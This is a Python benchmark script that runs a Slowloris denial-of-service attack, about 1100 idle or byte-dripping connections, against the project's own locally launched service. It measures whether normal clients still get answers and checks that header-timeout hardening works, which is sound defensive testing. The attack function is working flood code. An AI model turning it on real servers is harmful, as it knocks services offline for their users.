"""Slowloris against the real service: does a normal client still get answers? (issue #10.6)

Starts ``python -m cloud_service`` (``LocalService``) with a file-descriptor limit of 1024 (the
usual default), opens N attack connections -- half idle, half sending a partial request and then
one byte per second -- and meanwhile has a normal client call ``/v2/health/ready`` and an
inference every 0.2 s with a 2 s timeout. Reports the normal client's success rate and latency
before and during the attack, and when the server closed the attack connections.

    .venv/bin/python bench/slowloris.py                    # N=1100, default settings
    .venv/bin/python bench/slowloris.py -n 300 --override server.header_timeout_s=3

Before the hardening: no header timeout, no connection cap -- 1100 idle sockets made the
service unreachable at a 1024 fd limit, and they were held forever.
"""

from __future__ import annotations

import argparse
import resource
import selectors
import socket
import statistics
import sys
import threading
import time
from pathlib import Path

import httpx

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from cloud_service.launch import LocalService  # noqa: E402

INFER = {"inputs": [{"name": "input", "shape": [1, 28, 28], "datatype": "UINT8", "data": [0] * 784}]}


def normal_client(url: str, seconds: float, out: list, fresh: bool = False) -> None:
    """``fresh``: a new connection per call (else one kept-alive connection, like the router's pool)."""
    deadline = time.monotonic() + seconds
    c = httpx.Client(base_url=url, timeout=2.0, trust_env=False)
    try:
        while time.monotonic() < deadline:
            if fresh:
                c.close()
                c = httpx.Client(base_url=url, timeout=2.0, trust_env=False)
            t0 = time.monotonic()
            try:
                ok = (c.get("/v2/health/ready").status_code == 200
                      and c.post("/v2/models/fashion-mnist/infer", json=INFER).status_code == 200)
            except httpx.HTTPError:
                ok = False
            out.append((ok, time.monotonic() - t0))
            time.sleep(0.2)
    finally:
        c.close()


def summary(samples: list) -> str:
    if not samples:
        return "no samples"
    good = [t for ok, t in samples if ok]
    lat = f"median {statistics.median(good) * 1000:.0f} ms, max {max(good) * 1000:.0f} ms" if good else "-"
    return f"{len(good)}/{len(samples)} answered ({100 * len(good) / len(samples):.0f} %), {lat}"


def attack(port: int, n: int, seconds: float) -> tuple[int, list[float], int]:
    """Open n connections (half idle, half dripping); returns (opened, close times, answered with 4xx/5xx)."""
    sel = selectors.DefaultSelector()
    socks, opened, answered = [], 0, 0
    t0 = time.monotonic()
    for i in range(n):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
        except OSError:
            continue
        opened += 1
        s.setblocking(False)
        if i % 2:
            try:
                s.send(b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\n")
            except OSError:
                pass
        socks.append(s)
        sel.register(s, selectors.EVENT_READ, i % 2)
    closed_at: list[float] = []
    next_drip = time.monotonic() + 1.0
    end = t0 + seconds
    while time.monotonic() < end and sel.get_map():
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 "):
                answered += 1
            if not data or data.startswith(b"HTTP/1.1 "):
                sel.unregister(s)
                s.close()
                closed_at.append(time.monotonic() - t0)
        if time.monotonic() >= next_drip:
            next_drip += 1.0
            for key in list(sel.get_map().values()):
                if key.data:
                    try:
                        key.fileobj.send(b"X")
                    except OSError:
                        pass
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    return opened, closed_at, answered


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("-n", type=int, default=1100, help="attack connections (default 1100)")
    parser.add_argument("--seconds", type=float, default=15.0, help="attack duration (default 15)")
    parser.add_argument("--fd-limit", type=int, default=1024, help="the service's RLIMIT_NOFILE (default 1024)")
    parser.add_argument("--override", action="append", default=[], metavar="DOTTED=VALUE")
    args = parser.parse_args()
    overrides = {}
    for item in args.override:
        key, _, value = item.partition("=")
        try:
            overrides[key] = float(value) if "." in value else int(value)
        except ValueError:
            overrides[key] = value
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(args.fd_limit, hard), hard))  # inherited by the service
    try:
        svc = LocalService(overrides=overrides).start()
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))  # this script needs > N descriptors
    try:
        before: list = []
        normal_client(svc.url, 3.0, before)
        during: list = []
        fresh: list = []
        threads = [threading.Thread(target=normal_client, args=(svc.url, args.seconds, during)),
                   threading.Thread(target=normal_client, args=(svc.url, args.seconds, fresh, True))]
        for t in threads:
            t.start()
        opened, closed_at, answered = attack(svc.port, args.n, args.seconds)
        for t in threads:
            t.join()
        after: list = []
        normal_client(svc.url, 2.0, after)
    finally:
        svc.stop()
    print(f"service fd limit {args.fd_limit}; {args.n} attack connections (half idle, half dripping 1 byte/s), "
          f"{args.seconds:.0f} s; overrides {overrides or 'none'}")
    print(f"normal client before: {summary(before)}")
    print(f"normal client during (kept-alive connection): {summary(during)}")
    print(f"normal client during (new connection per call): {summary(fresh)}")
    print(f"normal client after:  {summary(after)}")
    if closed_at:
        closed_at.sort()
        print(f"attack: {opened} opened; server closed {len(closed_at)} ({answered} with an HTTP answer), "
              f"median after {statistics.median(closed_at):.1f} s, last after {closed_at[-1]:.1f} s")
    else:
        print(f"attack: {opened} opened; server closed none within {args.seconds:.0f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
